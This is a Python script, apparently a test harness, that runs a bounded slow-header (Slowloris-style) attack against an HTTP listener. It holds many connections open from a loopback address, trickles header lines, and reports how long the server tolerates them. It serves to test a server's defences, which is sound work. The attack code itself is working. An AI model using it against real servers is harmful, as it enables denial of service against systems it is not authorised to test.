#!/usr/bin/env python3
"""slow-clients.py: a bounded slow-header attack on an HTTP listener.

    slow-clients.py HOST PORT [--from ADDR] [--connections N] [--seconds S]
                    [--interval S] [--max-connects M]

Keeps N connections open from ADDR (a source address of 127.0.0.0/8: one
hostile neighbour), each sending the start of a request and then one more
header line every --interval seconds, never the blank line that ends the
headers.  A connection the server closes is opened again half a second
later, at most --max-connects times in all; after --seconds everything is closed.  Prints
one JSON object: connects, refused (closed before a second header line
went out), max_open, and max_life_s (the longest a connection stayed
open: the server's deadline for a whole request bounds it).
"""
import argparse
import json
import selectors
import socket
import sys
import time


def main():
    ap = argparse.ArgumentParser()
    ap.add_argument("host")
    ap.add_argument("port", type=int)
    ap.add_argument("--from", dest="src", default="127.0.0.2")
    ap.add_argument("--connections", type=int, default=40)
    ap.add_argument("--seconds", type=float, default=15.0)
    ap.add_argument("--interval", type=float, default=1.0)
    ap.add_argument("--max-connects", type=int, default=2000)
    a = ap.parse_args()
    if a.connections > 200 or a.seconds > 120:
        sys.exit("slow-clients.py: bounded to 200 connections and 120 s")

    sel = selectors.DefaultSelector()
    conns = {}  # socket -> {"opened", "next", "lines", "slot"}
    slots = [0.0] * a.connections  # per slot: when it may open again, or None while open
    stats = {"connects": 0, "refused": 0, "max_open": 0, "max_life_s": 0.0}
    end = time.monotonic() + a.seconds

    def open_one(slot):
        slots[slot] = None
        s = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
        s.bind((a.src, 0))
        s.settimeout(2)
        try:
            s.connect((a.host, a.port))
            s.sendall(b"GET /healthz HTTP/1.1\r\nHost: victim\r\n")
        except OSError:
            s.close()
            stats["refused"] += 1
            slots[slot] = time.monotonic() + 0.5
            return
        s.setblocking(False)
        now = time.monotonic()
        conns[s] = {"opened": now, "next": now + a.interval, "lines": 0, "slot": slot}
        sel.register(s, selectors.EVENT_READ)
        stats["connects"] += 1

    def close_one(s):
        info = conns.pop(s)
        life = time.monotonic() - info["opened"]
        stats["max_life_s"] = max(stats["max_life_s"], round(life, 2))
        if info["lines"] == 0:
            stats["refused"] += 1
        slots[info["slot"]] = time.monotonic() + 0.5
        sel.unregister(s)
        s.close()

    while time.monotonic() < end:
        for slot, when in enumerate(slots):
            if when is not None and when <= time.monotonic() and \
                    stats["connects"] + stats["refused"] < a.max_connects:
                open_one(slot)
        stats["max_open"] = max(stats["max_open"], len(conns))
        for key, _ in sel.select(timeout=0.05):
            try:
                data = key.fileobj.recv(4096)
            except OSError:
                data = b""
            if not data:  # closed by the server
                close_one(key.fileobj)
        now = time.monotonic()
        for s, info in list(conns.items()):
            if now >= info["next"]:
                try:
                    s.send(b"X-Slow-%d: %d\r\n" % (info["lines"], info["lines"]))
                    info["lines"] += 1
                    info["next"] = now + a.interval
                except OSError:
                    close_one(s)
        if stats["connects"] + stats["refused"] >= a.max_connects and not conns:
            break
    for s in list(conns):
        close_one(s)
    print(json.dumps(stats))


if __name__ == "__main__":
    main()
